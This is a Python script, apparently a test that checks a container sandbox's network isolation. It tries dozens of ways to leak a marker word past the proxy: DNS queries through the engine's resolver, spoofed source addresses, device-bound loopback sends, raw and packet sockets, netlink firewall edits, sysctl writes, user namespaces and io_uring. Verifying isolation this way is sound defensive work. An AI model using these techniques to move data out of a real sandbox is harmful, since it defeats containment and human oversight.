# SPDX-License-Identifier: GPL-2.0-or-later
"""What a subject may try to get bytes out of a cell without its proxy, one way after the other.

usage: docker_adversary.py WORD [KEY=VALUE]...    in the subject's container
    gateway, sibling, proxy   addresses inside;  web, names  addresses outside
    only                      NAME[,NAME]...: these ways alone
Every way carries its own word, WORD-NAME (where it can carry one), and its own port, so that who
listens on the wire or outside knows which one came through. Prints a line a way: NAME RESULT DETAIL.
    open     an answer with our word came back      sent    handed to the kernel, nothing came back
    refused  the kernel said no to the packet       denied  the socket, option or call itself
Never connects AF_VSOCK: behind it is a real host.
"""

import ctypes
import errno
import os
import re
import select
import socket
import struct
import sys

word = sys.argv[1]
where = {"gateway": "", "sibling": "", "proxy": "", "web": "203.0.113.10", "names": "198.51.100.53", "only": ""}
where.update(argument.split("=", 1) for argument in sys.argv[2:])
PATIENCE = 1.0  # seconds for an answer
NO_ANSWER = 0.05  # where none is ever to be expected: the wire tells
libc = ctypes.CDLL(None, use_errno=True)
ways = []


class Denied(OSError):
    """The socket, the option or the call, not a packet, was refused."""


def way(function):
    ways.append(function)
    return function


def payload():
    return f"{word}-{current.__name__}".encode()


def name():
    return payload().decode().replace("_", "-") + ".world.example"


def question(kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name().split("."))
    return os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)


def make(family, kind, protocol=0, options=()):
    try:
        made = socket.socket(family, kind, protocol)
        made.settimeout(PATIENCE)
        for option in options:
            made.setsockopt(*option)
        return made
    except OSError as error:
        raise Denied(error.errno, os.strerror(error.errno)) from error


def datagram(target, data=None, family=socket.AF_INET, protocol=0, options=(), bind=None, patience=PATIENCE):
    made = make(family, socket.SOCK_DGRAM, protocol, options)
    made.settimeout(patience)
    if bind:
        made.bind(bind)
    made.sendto(data or payload(), target)
    return answer(made)


def answer(made):
    try:
        return "open" if made.recv(4096) else "sent"
    except socket.timeout:
        return "sent"


def stream(target, data=None, family=socket.AF_INET, protocol=0, options=(), bind=None, patience=PATIENCE):
    made = make(family, socket.SOCK_STREAM, protocol, options)
    made.settimeout(patience)
    if bind:
        made.bind(bind)
    try:
        made.connect(target)
    except socket.timeout:
        return "sent"
    made.sendall(data or payload())
    return answer(made)


def over_tcp(query):
    return struct.pack(">H", len(query)) + query


def engine_port(protocol):
    """Where the engine's resolver really listens, on the same address; no NAT rule is needed."""
    with open(f"/proc/net/{protocol}") as file:
        for line in file.readlines()[1:]:
            address, port = line.split()[1].split(":")
            if address == "0B00007F":
                return int(port, 16)
    raise Denied(errno.ENOENT, "the resolver is not to be seen")


def device():
    with open("/proc/net/route") as file:
        for line in file.readlines()[1:]:
            if line.split()[1] == "00000000":
                return line.split()[0]
    return "eth0"


def index():
    return socket.if_nametoindex(device())


# Ordinary ways.
@way
def web_tcp():
    return stream((where["web"], 7))


@way
def web_http():
    return stream((where["web"], 80), b"GET /%s HTTP/1.0\r\n\r\n" % payload())


@way
def web_udp():
    return datagram((where["web"], 7))


@way
def names_udp():
    return datagram((where["names"], 53), question())


@way
def names_tcp():
    return stream((where["names"], 53), over_tcp(question()))


def ping(target, family=socket.AF_INET, protocol=socket.IPPROTO_ICMP, kind=8):
    made = make(family, socket.SOCK_DGRAM, protocol)
    made.sendto(struct.pack(">BBHHH", kind, 0, 0, 0, 1) + payload(), target)
    return answer(made)


@way
def web_icmp():
    return ping((where["web"], 0))


@way
def gateway_tcp():
    return stream((where["gateway"], 53), over_tcp(question()))


@way
def gateway_udp():
    return datagram((where["gateway"], 53), question(), patience=NO_ANSWER)


@way
def gateway_icmp():
    return ping((where["gateway"], 0))


@way
def sibling_tcp():
    return stream((where["sibling"], 8080))


@way
def sibling_udp():
    return datagram((where["sibling"], 7))


@way
def sibling_icmp():
    return ping((where["sibling"], 0))


@way
def proxy_udp():
    return datagram((where["proxy"], 8080), patience=NO_ANSWER)


@way
def proxy_port():
    return stream((where["proxy"], 8081))


@way
def proxy_icmp():
    return ping((where["proxy"], 0))


# The engine's resolver, which forwards from outside of every policy in here.
@way
def resolver_udp():
    return datagram(("127.0.0.11", 53), question())


@way
def resolver_txt():
    return datagram(("127.0.0.11", 53), question(16))


@way
def resolver_tcp():
    return stream(("127.0.0.11", 53), over_tcp(question()))


@way
def resolver_port_udp():
    return datagram(("127.0.0.11", engine_port("udp")), question())


@way
def resolver_port_tcp():
    return stream(("127.0.0.11", engine_port("tcp")), over_tcp(question()))


@way
def resolver_mapped():
    return datagram(("::ffff:127.0.0.11", 53), question(), socket.AF_INET6)


@way
def resolver_mapped_tcp():
    return stream(("::ffff:127.0.0.11", engine_port("tcp")), over_tcp(question()), socket.AF_INET6)


@way
def resolver_from_loopback():
    return datagram(("127.0.0.11", engine_port("udp")), question(), bind=("127.0.0.1", 0))


@way
def resolver_connected():
    made = make(socket.AF_INET, socket.SOCK_DGRAM)
    made.connect(("127.0.0.11", 53))
    made.send(question())
    return answer(made)


@way
def resolver_libc():
    try:
        socket.getaddrinfo(name(), 80, socket.AF_INET)
        return "open"
    except socket.gaierror as error:
        raise OSError(errno.EPERM, str(error)) from error


# "Local" destinations that leave by a device: the host's loopback behind a bridge with route_localnet.
def bound_to_device(options):
    return datagram(("127.0.0.1", 53), question(16), options=options, patience=NO_ANSWER)


@way
def device_bound():
    return bound_to_device([(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device().encode() + b"\0")])


@way
def device_unicast_if():
    return bound_to_device([(socket.IPPROTO_IP, 50, struct.pack(">I", index()))])


@way
def device_pktinfo():
    made = make(socket.AF_INET, socket.SOCK_DGRAM)
    made.settimeout(NO_ANSWER)
    info = struct.pack("=I4s4s", index(), b"\0" * 4, b"\0" * 4)
    made.sendmsg([question(16)], [(socket.IPPROTO_IP, 8, info)], 0, ("127.0.0.1", 53))
    return answer(made)


@way
def device_bound_tcp():
    return stream(("127.0.0.1", 53), over_tcp(question()),
                  options=[(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device().encode() + b"\0")], patience=NO_ANSWER)


@way
def device_bound_self():
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.connect((where["gateway"], 9))
    return datagram((own.getsockname()[0], 9),
                    options=[(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device().encode() + b"\0")], patience=NO_ANSWER)


@way
def device_bound_loopback6():
    return datagram(("::1", 53), question(16), socket.AF_INET6,
                    options=[(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device().encode() + b"\0")], patience=NO_ANSWER)


# Tricks with addresses and options.
FREEBIND = (socket.IPPROTO_IP, 15, 1)


@way
def source_loopback():
    return datagram((where["web"], 7), bind=("127.0.0.1", 0))


@way
def source_foreign():
    return datagram((where["web"], 7), options=[FREEBIND], bind=("203.0.113.77", 0))


@way
def source_foreign_tcp():
    return stream((where["web"], 7), options=[FREEBIND], bind=(where["sibling"], 0))


@way
def mark():
    return datagram((where["web"], 7), options=[(socket.SOL_SOCKET, socket.SO_MARK, 1)])


@way
def priority():
    return datagram((where["web"], 7), options=[(socket.SOL_SOCKET, socket.SO_PRIORITY, 6)])


@way
def transparent():
    return datagram((where["web"], 7), options=[(socket.IPPROTO_IP, 19, 1)])


@way
def repair():
    return stream((where["web"], 7), options=[(socket.IPPROTO_TCP, 19, 1)])


@way
def source_route():
    hops = socket.inet_aton(where["proxy"]) + socket.inet_aton(where["web"])
    return datagram((where["gateway"], 7), options=[(socket.IPPROTO_IP, 4, b"\1\x83\x0b\x04" + hops)])


@way
def record_route():
    return datagram((where["web"], 7), options=[(socket.IPPROTO_IP, 4, b"\x07\x07\x04\0\0\0\0\0")])


@way
def dont_route():
    return datagram((where["gateway"], 9), options=[(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)], patience=NO_ANSWER)


@way
def broadcast():
    return datagram(("255.255.255.255", 9), options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)], patience=NO_ANSWER)


@way
def multicast():
    return datagram(("224.0.0.251", 5353), question(), patience=NO_ANSWER)


@way
def igmp():
    group = socket.inet_aton("239.1.2.3") + socket.inet_aton("0.0.0.0")
    make(socket.AF_INET, socket.SOCK_DGRAM, options=[(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)])
    return "sent"


# Other transports and shapes.
@way
def udplite():
    return datagram((where["web"], 7), protocol=136, patience=NO_ANSWER)


@way
def mptcp():
    return stream((where["web"], 7), protocol=262)


@way
def fragments():
    return datagram((where["web"], 7), payload() + b"." * 4000)


@way
def fast_open():
    made = make(socket.AF_INET, socket.SOCK_STREAM)
    try:
        made.sendto(payload(), 0x20000000, (where["web"], 7))
    except socket.timeout:
        return "sent"
    except BlockingIOError:  # no cookie yet: an ordinary handshake is under way
        if not select.select([], [made], [], PATIENCE)[1]:
            return "sent"
        made.sendall(payload())
    return answer(made)


@way
def ipv6_multicast():
    return datagram(("ff02::1", 9, 0, index()), family=socket.AF_INET6, patience=NO_ANSWER)


@way
def ipv6_link_local():
    return datagram(("fe80::1", 9, 0, index()), family=socket.AF_INET6, patience=NO_ANSWER)


@way
def ipv6_icmp():
    return ping(("ff02::1", 0, 0, index()), socket.AF_INET6, socket.IPPROTO_ICMPV6, 128)


@way
def ipv6_global():
    return stream(("2001:db8::1", 7), family=socket.AF_INET6)


@way
def ipv6_mapped():
    return datagram((f"::ffff:{where['web']}", 7), family=socket.AF_INET6)


@way
def sctp():
    return stream((where["web"], 7), protocol=132)


@way
def dccp():
    made = make(socket.AF_INET, 6, 33)
    made.connect((where["web"], 7))
    return "sent"


# Below IP, and doors that are no packets. These must be denied before a packet exists.
@way
def raw():
    made = make(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    made.sendto(struct.pack(">HHHH", 9, 7, 8 + len(payload()), 0) + payload(), (where["web"], 0))
    return "sent"


@way
def raw_ipv6():
    make(socket.AF_INET6, socket.SOCK_RAW, 58)
    return "sent"


@way
def packet():
    made = make(socket.AF_PACKET, socket.SOCK_RAW, 0)
    made.bind((device(), 0))
    made.send(b"\xff" * 6 + b"\2\0\0\0\0\1" + b"\x88\xb5" + payload() + b"\0" * 50)
    return "sent"


@way
def packet_datagram():
    made = make(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    made.sendto(payload(), (device(), 0x88B5, 0, 0, b"\xff" * 6))
    return "sent"


@way
def xdp():
    make(44, socket.SOCK_RAW, 0)
    return "sent"


@way
def user_namespace():
    child = os.fork()
    if child == 0:
        os._exit(0 if libc.unshare(0x10000000 | 0x40000000) == 0 else ctypes.get_errno())
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status:
        raise Denied(status, os.strerror(status))
    return "open"


@way
def netlink_policy():
    """Add a table; only NET_ADMIN over this namespace may."""
    made = make(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    made.bind((0, 0))
    head = lambda length, kind, flags: struct.pack("=IHHII", length, kind, flags, 1, 0)
    body = struct.pack(">BBH", 1, 0, 0) + struct.pack("=HH", 4 + 8, 1) + b"attack\0\0"
    batch = lambda kind: head(20, kind, 1) + struct.pack(">BBH", 0, 0, 10)
    made.send(batch(0x10) + head(16 + len(body), 0x0A00, 0x401 | 4) + body + batch(0x11))
    code = struct.unpack_from("=i", made.recv(4096), 16)[0]
    if code:
        raise Denied(-code, os.strerror(-code))
    return "open"


@way
def sysctl_route_localnet():
    try:
        with open("/proc/sys/net/ipv4/conf/all/route_localnet", "w") as file:
            file.write("1")
    except OSError as error:
        raise Denied(error.errno, os.strerror(error.errno)) from error
    return "open"


@way
def abstract_unix():
    """Somebody of this namespace listens on a name that no file system guards."""
    with open("/proc/net/unix") as file:
        names = [line.split()[-1] for line in file if re.search(r" @\S+$", line)]
    for one in names:
        made = make(socket.AF_UNIX, socket.SOCK_STREAM)
        made.connect("\0" + one[1:])
        return "open"
    raise OSError(errno.ECONNREFUSED, "nobody listens")


# Doors that a packet filter cannot close and cell-exec does; the engine's own filter may, too.
@way
def vsock():
    make(40, socket.SOCK_STREAM)
    return "sent"


@way
def io_uring():
    made = libc.syscall(425, 1, (ctypes.c_char * 120)())
    if made < 0:
        raise Denied(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(made)
    return "sent"


@way
def request_key():
    if libc.syscall(249, b"user", payload(), None, -2) < 0 and ctypes.get_errno() == errno.EPERM:
        raise Denied(errno.EPERM, "")
    return "sent"


if __name__ == "__main__":
    only = where["only"].split(",") if where["only"] else [one.__name__ for one in ways]
    for current in (one for one in ways if one.__name__ in only):
        detail = ""
        try:
            result = current()
        except Denied as error:
            result, detail = "denied", errno.errorcode.get(error.errno, error.errno)
        except OSError as error:
            result, detail = "refused", errno.errorcode.get(error.errno, error.errno)
        print(current.__name__, result, detail, flush=True)
